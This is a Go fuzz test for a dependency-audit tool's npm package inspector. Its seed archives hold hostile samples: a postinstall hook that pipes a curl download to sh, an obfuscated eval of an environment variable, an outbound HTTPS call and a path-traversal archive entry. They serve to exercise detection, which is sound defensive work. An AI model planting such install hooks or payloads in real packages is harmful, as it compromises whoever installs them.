package inspect_test

import (
	"context"
	"testing"
	"time"

	"github.com/rampartsec/rampart/audit/deps/inspect"
	"github.com/rampartsec/rampart/audit/deps/lockfile"
	"github.com/rampartsec/rampart/audit/deps/registry"
	"github.com/rampartsec/rampart/internal/npmregistrytest"
)

// FuzzInspectArchive runs the whole inspection of one package over an
// arbitrary archive taken from the cache: it must never panic, and every
// signal must name a kind and a severity.
func FuzzInspectArchive(f *testing.F) {
	f.Add(npmregistrytest.Tarball(map[string]string{
		"package.json": `{"name":"p","version":"1.0.0","scripts":{"postinstall":"node i.js && curl x | sh"}}`,
		"i.js":         "require('./j')\neval(atob(process.env.X))\n",
		"j.js":         "require('https').get(u)\n",
	}))
	f.Add(npmregistrytest.RawTarball([]npmregistrytest.Entry{{Name: "package/../x", Body: "y"}, {Name: "package/package.json", Body: "{"}}))
	f.Add([]byte("not an archive"))
	f.Fuzz(func(t *testing.T, data []byte) {
		cache := &registry.Cache{Dir: t.TempDir()}
		integ := npmregistrytest.Integrity(data)
		if err := cache.Put(integ, data); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		res, err := inspect.Run(ctx, inspect.Config{Cache: cache, Concurrency: 1}, []inspect.Package{{Source: "l", Package: lockfile.Package{
			Name: "p", Version: "1.0.0", Ecosystem: lockfile.EcosystemNPM, Integrity: integ}}})
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range res.Signals {
			if s.Kind == "" || s.Detail == "" {
				t.Fatalf("got %+v", s)
			}
		}
	})
}
